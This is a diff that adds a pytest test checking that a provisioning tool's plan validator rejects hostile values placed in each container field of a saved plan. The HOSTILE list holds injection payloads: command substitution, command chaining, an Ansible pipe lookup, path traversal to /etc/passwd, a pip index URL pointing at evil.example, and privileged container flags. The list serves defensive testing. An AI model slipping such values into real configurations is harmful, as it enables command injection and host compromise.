@@ -363,6 +363,46 @@ def test_a_saved_plan_with_containers_round_trips_and_its_values_are_held_to_the
     assert found == {"containers.gpu_run_args.1", "containers.engine_repo.key_fingerprint", "containers.rootless_user"}
 
 
+def _strings(node, path=()):
+    if isinstance(node, dict):
+        for key, value in node.items():
+            yield from _strings(value, (*path, key))
+    elif isinstance(node, list):
+        for i, value in enumerate(node):
+            yield from _strings(value, (*path, i))
+    elif isinstance(node, str):
+        yield path
+
+
+def _put(doc, path, value):
+    doc = json.loads(json.dumps(doc))
+    node = doc
+    for part in path[:-1]:
+        node = node[part]
+    node[path[-1]] = value
+    return doc
+
+
+CONTAINER_PLANS = {name: plan_json(resolve(profile(os, engine), DB)) for name, os, engine in (
+    ("docker-ce", "debian-12", "docker-ce"), ("docker-runtime", "debian-12", "docker"), ("podman", "debian-13", "podman"))}
+HOSTILE = ["{{ lookup('pipe', 'id') }}", "$(touch /tmp/x)", "`id`", "x; id", "x && id #", "../../../../etc/passwd",
+           "x\nRUN id", "x' --index-url http://evil.example/ '", "--privileged", "-v", "/:/host", "--cap-add=ALL",
+           "--security-opt=seccomp=unconfined", "a" * 5000]
+
+
+@pytest.mark.parametrize("name", sorted(CONTAINER_PLANS))
+def test_every_containers_value_of_a_saved_plan_is_held_to_its_rule(name):
+    """A crafted plan.json (what `provision build`/`apply` read back) with a payload in any containers field is
+    refused, field by field, as the rest of the plan is (tests/unit/test_hostile_profiles.py)."""
+    data = CONTAINER_PLANS[name]
+    fields = [f for f in _strings(data) if f[0] == "containers"]
+    assert len(fields) >= 10
+    for field in fields:
+        for payload in HOSTILE:
+            found = problems(_put(data, field, payload))
+            assert [path for path, _ in found] == [field], (field, payload)
+
+
 # --- the command line ------------------------------------------------------------------------------------------------
 
 
